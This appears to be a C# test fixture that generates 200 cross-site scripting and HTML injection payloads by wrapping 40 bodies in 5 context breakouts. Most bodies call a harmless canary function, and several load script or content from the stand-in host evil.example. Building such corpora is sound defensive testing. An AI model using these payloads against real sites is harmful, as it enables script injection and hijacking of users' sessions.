namespace Genomlys.Tests.Bars;

/// <summary>Two hundred texts that would run, load or restyle something where a page takes them for its own.</summary>
public static class Payloads
{
    private const string Act = "canary()";

    private static readonly string[] Bodies =
    [
        $"<script>{Act}</script>", $"<ScRiPt>{Act}</sCrIpT>", "<script src=//evil.example></script>", $"<img src=x onerror={Act}>", $"<img src=x onerror='{Act}'>", $"<svg onload={Act}>", $"<svg/onload={Act}>", $"<svg><script>{Act}</script></svg>",
        $"<body onload={Act}>", $"<iframe src=javascript:{Act}>", $"<iframe srcdoc='<script>{Act}</script>'>", $"<a href=javascript:{Act}>x</a>", $"<a href='JaVaScRiPt:{Act}'>x</a>", $"<a href='java\tscript:{Act}'>x</a>", $"<form action=javascript:{Act}><button>x",
        $"<button formaction=javascript:{Act}>x", $"<input autofocus onfocus={Act}>", $"<details open ontoggle={Act}>x", $"<video><source onerror={Act}>", $"<audio src=x onerror={Act}>", $"<math><mi xlink:href=javascript:{Act}>x", "<object data=//evil.example>",
        "<embed src=//evil.example>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example>", "<style>*{display:none}</style>", "<p style=position:fixed>x</p>", $"<marquee onstart={Act}>x",
        $"<x-canary onclick={Act}>x</x-canary>", $"<svg><animate onbegin={Act}>", $"<svg><set attributeName=onload to={Act}>", $"<template><script>{Act}</script></template>", $"<noscript><p title='</noscript><img src=x onerror={Act}>'>", $"javascript:{Act}", $"data:text/html,<script>{Act}</script>",
        $"<div hx-on:click={Act}>x</div>", $"<div hx-get=//evil.example hx-trigger=load>x</div>", $"[x](javascript:{Act})", $"![x](x \"onerror={Act}\")",
    ];

    /// <summary>Out of an attribute, out of a text area, out of a title, out of a comment, or as it is.</summary>
    private static readonly string[] Ways = ["{0}", "\">{0}", "'>{0}", "</textarea></title></option></select>{0}", "--></script>{0}<!--"];

    public static readonly IReadOnlyList<string> All = [.. from way in Ways from body in Bodies select way.Replace("{0}", body, StringComparison.Ordinal)];
}
